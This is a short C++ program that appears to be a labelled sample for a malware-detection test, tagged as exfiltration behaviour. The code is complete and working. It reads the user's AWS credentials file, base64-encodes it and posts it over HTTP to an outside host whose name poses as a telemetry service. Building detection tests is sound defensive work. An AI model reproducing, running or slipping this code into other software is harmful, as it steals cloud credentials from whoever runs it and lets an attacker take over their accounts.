// blind-expect: behavior.exfiltration
// Loads the AWS credentials file, base64-encodes it, and posts it to a remote HTTP endpoint.
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <netdb.h>
#include <sys/socket.h>
#include <unistd.h>

namespace {

std::string base64(const std::string &in)
{
    static const char tbl[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    unsigned val = 0;
    int bits = -6;
    for (unsigned char c : in) {
        val = (val << 8) + c;
        bits += 8;
        while (bits >= 0) {
            out.push_back(tbl[(val >> bits) & 0x3F]);
            bits -= 6;
        }
    }
    if (bits > -6)
        out.push_back(tbl[((val << 8) >> (bits + 8)) & 0x3F]);
    while (out.size() % 4)
        out.push_back('=');
    return out;
}

class Uploader {
public:
    Uploader(const char *host, const char *port) : host_(host)
    {
        addrinfo hints{};
        hints.ai_socktype = SOCK_STREAM;
        addrinfo *res = nullptr;
        if (getaddrinfo(host, port, &hints, &res) == 0) {
            fd_ = socket(res->ai_family, res->ai_socktype, 0);
            if (fd_ >= 0 && connect(fd_, res->ai_addr, res->ai_addrlen) != 0) {
                close(fd_);
                fd_ = -1;
            }
            freeaddrinfo(res);
        }
    }
    ~Uploader() { if (fd_ >= 0) close(fd_); }

    bool post(const std::string &body)
    {
        if (fd_ < 0)
            return false;
        std::ostringstream req;
        req << "POST /collect HTTP/1.1\r\nHost: " << host_ << "\r\nContent-Length: " << body.size()
            << "\r\nContent-Type: text/plain\r\n\r\n" << body;
        std::string s = req.str();
        return send(fd_, s.data(), s.size(), 0) == static_cast<ssize_t>(s.size());
    }

private:
    std::string host_;
    int fd_ = -1;
};

} // namespace

int main()
{
    const char *home = std::getenv("HOME");
    std::string path = std::string(home ? home : "") + "/.aws/credentials";
    std::ifstream in(path);
    if (!in)
        return 0;
    std::stringstream ss;
    ss << in.rdbuf();

    Uploader up("telemetry.example-metrics.net", "80");
    up.post(base64(ss.str()));
    return 0;
}
